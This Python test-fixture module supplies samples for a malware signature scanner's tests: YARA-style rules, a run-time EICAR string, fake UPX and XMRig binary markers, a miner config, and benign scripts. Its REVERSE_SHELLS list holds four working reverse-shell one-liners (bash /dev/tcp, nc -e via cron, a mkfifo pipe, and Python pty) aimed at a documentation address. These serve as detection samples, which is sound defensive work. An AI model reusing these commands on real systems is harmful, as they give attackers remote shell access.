"""Rule sources and benign samples built at run time for the signature store tests."""

from __future__ import annotations

from scanner.rulesets.model import RulesetFile


def rule_file(path: str, rule: str, text: str) -> RulesetFile:
    """A one-rule file matching ``text`` (benign marker strings only)."""
    src = f'rule {rule} {{\n  strings:\n    $a = "{text}"\n  condition:\n    $a\n}}\n'
    return RulesetFile(path, src.encode())


def eicar() -> bytes:
    """The EICAR test string, assembled at run time so no file in the repo holds it whole."""
    head = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
    return head + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


def upx_elf() -> bytes:
    """An ELF header followed by UPX's marker and banner (no code: not a real executable)."""
    header = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 44
    return (
        header
        + b"\x00" * 100
        + b"UPX!"
        + b"\x00" * 64
        + (b"$Info: This file is packed with the UPX executable packer http://upx.sf.net $\n")
    )


REVERSE_SHELLS = [
    b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
    b"* * * * * root nc -w 3 203.0.113.7 9001 -e /bin/sh\n",
    b"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f\n",
    (
        b"import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        b's.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);import pty;pty.spawn("/bin/sh")\n'
    ),
]

MINER_CONFIG = b"""{
  "autosave": true,
  "donate-level": 1,
  "cpu": {"enabled": true},
  "pools": [{"algo": "rx/0", "url": "stratum+tcp://pool.example.net:3333", "user": "x"}]
}
"""

MINER_BINARY = (
    b"\x7fELF"
    + b"\x00" * 200
    + b"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2\x00"
    + b"--donate-level=N\x00--randomx-mode=MODE\x00stratum+tcp://\x00"
)

BENIGN = [
    b"#!/bin/sh\nset -eu\nexec /usr/sbin/sshd -D\n",
    b'{"pools": ["default"], "listen": "0.0.0.0:8080", "log-level": 1}\n',
    b"echo hello > /dev/null; ls /dev/tcp 2>/dev/null || true\n",
]
